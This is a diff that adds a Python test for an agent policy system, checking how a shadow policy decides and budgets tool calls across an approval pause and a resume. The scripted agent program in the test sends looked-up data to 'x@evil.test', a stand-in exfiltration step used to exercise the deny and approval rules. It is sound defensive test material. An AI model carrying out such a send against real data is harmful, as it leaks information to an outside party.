@@ -123,6 +123,36 @@ def test_budgets_used_before_the_pause_still_count(env: tuple[RunStore, str, Pat
     assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]
 
 
+def test_a_shadow_decides_a_durable_runs_live_calls_and_counts_its_replayed_ones(
+        env: tuple[RunStore, str, Path]) -> None:
+    """A durable run's calls are decided by the shadow as any run's; on resume, a call answered from the journal
+    is not decided again (it was when it first ran) but is counted in the shadow's budgets, as in the run's."""
+    store, _, tmp = env
+    candidate = Policy.from_dict({
+        "version": 1, "default": "deny",
+        "budgets": [{"name": "one-look", "match": {"tool": "look"}, "limit": {"calls": 1}}],
+        "rules": [{"name": "no-mail", "match": {"tool": "send"}, "decision": "deny"},
+                  {"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"}]})
+    program = "```py\na = look(1)\nsend('x@evil.test', str(a))\nfinal_answer(look(2))\n```"
+
+    def disagreements() -> list[tuple[str, str, str, str | None]]:
+        lines = [json.loads(line) for line in (tmp / "audit.jsonl").read_text().splitlines()]
+        return [(r["tool"], r["enforced"]["decision"], r["shadow"]["decision"], r["shadow"]["budget"])
+                for r in lines if r["kind"] == "shadow_decision"]
+
+    with _agent(store, tmp, [program], shadow=candidate) as agent:
+        run_id = agent.run("go", principal="alice").run_id
+    assert disagreements() == [("send", "require_approval", "deny", None)]
+    [pending] = store.list_approvals()
+    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
+    with _agent(store, tmp, [], shadow=candidate) as agent:
+        r = agent.resume(run_id)
+    assert r.status == "done" and r.answer == 20
+    # look(1) came from the journal: no second decision, but the candidate's one look is spent by it
+    assert disagreements() == [("send", "require_approval", "deny", None), ("send", "require_approval", "deny", None),
+                               ("look", "allow", "deny", "one-look")]
+
+
 def test_a_cancelled_run_cannot_be_resumed(env: tuple[RunStore, str, Path]) -> None:
     """Cancelling voids the pending approval; resume then refuses and nothing runs."""
     store, url, tmp = env
